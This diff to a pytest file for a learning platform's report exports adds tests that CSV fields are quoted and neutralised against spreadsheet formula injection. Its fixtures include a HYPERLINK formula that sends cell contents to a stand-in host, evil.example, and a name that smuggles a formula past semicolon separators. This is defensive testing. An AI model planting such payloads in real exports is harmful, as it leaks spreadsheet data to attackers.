@@ -7,9 +7,16 @@ from flask import Flask
 
 from depomi_learn.extensions import db
 from depomi_learn.reports.charts import Bar, bar_chart, column_chart
-from depomi_learn.reports.exports import neutralise
+from depomi_learn.reports.exports import csv_field, neutralise
 from tests.report_pages import csv_rows, xlsx_cells
-from tests.report_world import FORMULA_INSTITUTION, FORMULA_JOB, XSS_NAME, build_world
+from tests.report_world import (
+    FORMULA_INSTITUTION,
+    FORMULA_JOB,
+    XSS_NAME,
+    add_learner,
+    build_world,
+    enrol_learner,
+)
 
 PAGES = [
     "/coordinate/",
@@ -65,6 +72,48 @@ def test_csv_exports_neutralise_formulas(world, auth, client, export):
     if "learners" in export:
         assert XSS_NAME in cells  # text, not a formula: kept as typed
         assert "'+212 Sans Province" in cells
+
+
+SEMICOLON_NAME = "Ali;=1+1;x"
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
+FORMULA_CHARACTERS = ("=", "+", "-", "@")
+
+
+@pytest.mark.parametrize(
+    ("text", "field"),
+    [
+        ("Ali;=1+1;x", '"Ali;\'=1+1;x"'),
+        ('=HYPERLINK("u","v")', '"\'=HYPERLINK(""u"",""v"")"'),
+        ("a,@SUM(1)", '"a,\'@SUM(1)"'),
+        ("ligne\n-1", '"ligne\n\'-1"'),
+        ("Commune d'Agadir", "Commune d'Agadir"),
+    ],
+)
+def test_csv_fields_are_neutralised_after_every_separator_and_quoted(text, field):
+    assert csv_field(text) == field
+    assert csv_field("12,5", number=True) == '"12,5"'
+
+
+def naive_cells(data: bytes) -> list[str]:
+    """Split lines as French Excel does: on ';' and ',' alike, dropping a cell's leading quote."""
+    text = data.decode("utf-8-sig")
+    pieces = [
+        piece for line in text.splitlines() for part in line.split(";") for piece in part.split(",")
+    ]
+    return [piece.lstrip('"') for piece in pieces]
+
+
+@pytest.mark.parametrize("export", ["learners.csv?metric=learners", "institution.csv"])
+def test_semicolon_and_hyperlink_payloads_stay_text_in_csv(world, app, auth, client, export):
+    learner = add_learner(app, "ali@souss.ma", name=SEMICOLON_NAME, institution=HYPERLINK)
+    enrol_learner(app, learner, "course-a", started=True)
+    auth.login("c@souss.ma")
+    data = client.get(f"/coordinate/export/{export}").data
+    cells = [cell for row in csv_rows(data) for cell in row]
+    assert "'" + HYPERLINK in cells
+    if "learners" in export:
+        assert "Ali;'=1+1;x" in cells
+    assert [cell for cell in naive_cells(data) if cell.startswith(FORMULA_CHARACTERS)] == []
 
 
 @pytest.mark.parametrize("export", ["learners.xlsx?metric=learners", "dashboard.xlsx"])
